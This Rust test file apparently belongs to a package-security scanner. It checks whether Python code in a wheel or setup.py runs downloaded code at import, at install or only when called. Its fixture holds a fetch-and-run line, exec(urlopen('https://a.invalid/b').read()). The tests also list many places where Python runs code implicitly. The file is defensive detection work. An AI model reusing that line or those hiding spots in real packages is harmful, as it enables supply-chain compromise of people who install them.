//! When does what of a module run? Python computes and calls more than stands there as a call.

use crate::flow::testing::{found, remote_code, wheel};
use crate::unpack::text_file as file;
use customs_model::{SourceKind, Zone};

const WORK: &str = "\
import urllib.request

def work(*given):
    exec(urllib.request.urlopen('https://a.invalid/b').read())

";

/// When a module with this code runs what it downloads.
fn runs(code: &str) -> Zone {
    remote_code(wheel(&format!("{WORK}{code}"))).unwrap_or(Zone::Never)
}

#[test]
fn what_a_parameter_is_by_default_is_computed_where_the_function_is_defined() {
    assert_eq!(runs("def f(x=work()):\n    pass\n"), Zone::Import);
    assert_eq!(runs("def f(*, x=work()):\n    pass\n"), Zone::Import);
    assert_eq!(runs("f = lambda x=work(): x\n"), Zone::Import);
    assert_eq!(
        runs("class C:\n    def f(self, x=work()):\n        pass\n"),
        Zone::Import
    );
    // What is written in the body waits.
    assert_eq!(runs("def f(x=None):\n    work()\n"), Zone::Called);
    assert_eq!(runs("f = lambda x=None: work()\n"), Zone::Called);
}

#[test]
fn a_type_that_calls_is_computed_where_it_stands() {
    assert_eq!(runs("x: work() = 1\n"), Zone::Import);
    assert_eq!(runs("x: work()\n"), Zone::Import);
    assert_eq!(runs("def f(x: work()):\n    pass\n"), Zone::Import);
    assert_eq!(runs("def f() -> work():\n    pass\n"), Zone::Import);
    assert_eq!(runs("x: 'work()' = 1\n"), Zone::Called);
}

#[test]
fn methods_that_python_calls_by_itself_run_where_it_does() {
    let class = |method: &str, after: &str| {
        let code = format!("class C:\n    def {method}(self, *given):\n        work()\n\n{after}");
        runs(&code)
    };
    assert_eq!(class("__enter__", "with C():\n    pass\n"), Zone::Import);
    assert_eq!(
        class("__exit__", "with C() as c:\n    pass\n"),
        Zone::Import
    );
    assert_eq!(class("__new__", "C()\n"), Zone::Import);
    assert_eq!(class("__post_init__", "C()\n"), Zone::Import);
    assert_eq!(
        class("__set_name__", "class D:\n    x = C()\n"),
        Zone::Import
    );
    assert_eq!(
        class("__init_subclass__", "class D(C):\n    pass\n"),
        Zone::Import
    );
    // Nobody makes one, enters one or inherits from it.
    for method in ["__enter__", "__new__", "__init_subclass__"] {
        assert_eq!(class(method, ""), Zone::Called, "{method}");
    }
    assert_eq!(class("__enter__", "C()\n"), Zone::Called);
}

#[test]
fn what_stands_beside_the_part_for_scripts_runs_when_it_is_imported() {
    for code in [
        "if __name__ == '__main__':\n    pass\nelse:\n    work()\n",
        "if __name__ == '__main__':\n    pass\nelif given:\n    work()\n",
        "if '__main__' == __name__:\n    pass\nelif __name__ == '__main__':\n    pass\nelse:\n    work()\n",
        "if __name__ != '__main__':\n    work()\n",
        "if __name__ != '__main__':\n    work()\nelse:\n    pass\n",
        "if __name__ is not '__main__':\n    work()\n",
    ] {
        assert_eq!(runs(code), Zone::Import, "{code}");
    }
    for code in [
        "if __name__ == '__main__':\n    work()\nelse:\n    pass\n",
        "if __name__ != '__main__':\n    pass\nelse:\n    work()\n",
        "if __name__ != '__main__':\n    pass\nelif given:\n    work()\n",
    ] {
        assert_eq!(runs(code), Zone::Called, "{code}");
    }
}

#[test]
fn each_part_for_scripts_runs_where_the_file_is_one() {
    let script = |code: &str| {
        let entries = vec![
            file("a-1.0/setup.py", &format!("{WORK}{code}")),
            file(
                "a-1.0/PKG-INFO",
                "Metadata-Version: 2.1\nName: a\nVersion: 1.0\n",
            ),
        ];
        found(entries)
            .flows
            .iter()
            .any(|flow| flow.source == SourceKind::Remote && flow.zone == Zone::Install)
    };
    let first = "if __name__ == '__main__':\n    work()\n";
    let last = "if __name__ == '__main__':\n    pass\n";
    assert!(script(&format!("{first}{last}")));
    assert!(script(&format!("{last}{first}")));
    assert!(!script(&format!("{last}{last}")));
}

#[test]
fn what_is_computed_beside_a_statement_runs_with_it() {
    for code in [
        "class C(B, x=work()):\n    pass\n",
        "class C(B, **work()):\n    pass\n",
        "x = f'{1:{work()}}'\n",
        "assert x, work()\n",
        "try:\n    pass\nexcept work():\n    pass\n",
        "raise E from work()\n",
        "match x:\n    case 1 if work():\n        pass\n",
    ] {
        assert_eq!(runs(code), Zone::Import, "{code}");
        assert_eq!(
            runs(&code.replace("work()", "work")),
            Zone::Called,
            "{code}"
        );
    }
}

#[test]
fn a_name_of_a_pattern_is_the_part_that_it_stands_for() {
    for code in [
        "match work:\n    case f:\n        f()\n",
        "match [1, work]:\n    case [_, f]:\n        f()\n",
        "match {'k': work}:\n    case {'k': f}:\n        f()\n",
        "match [1, work]:\n    case [1, (_ as f)] if f():\n        pass\n",
    ] {
        assert_eq!(runs(code), Zone::Import, "{code}");
        assert_eq!(runs(&code.replace("f()", "f")), Zone::Called, "{code}");
    }
    let other = "match [work, 1]:\n    case [_, f]:\n        f()\n";
    assert_eq!(runs(other), Zone::Called);
}

#[test]
fn what_with_is_given_is_entered_and_left_whatever_gives_it() {
    let class = |method: &str, code: &str| {
        let method = format!("class C:\n    def {method}(self, *given):\n        work()\n");
        runs(&format!("{method}{code}"))
    };
    for method in ["__enter__", "__exit__"] {
        for code in [
            "c = C()\nwith c:\n    pass\n",
            "class D:\n    c = C()\nwith D.c:\n    pass\n",
            "class D:\n    class E(C):\n        pass\nwith D.E():\n    pass\n",
        ] {
            assert_eq!(class(method, code), Zone::Import, "{method} {code}");
        }
        assert_eq!(class(method, "c = C()\n"), Zone::Called);
    }
    let code = "async def f():\n    async with C():\n        pass\nasyncio.run(f())\n";
    assert_eq!(
        class("__aenter__", &format!("import asyncio\n{code}")),
        Zone::Import
    );
    assert_eq!(
        class("__enter__", &format!("import asyncio\n{code}")),
        Zone::Called
    );
}
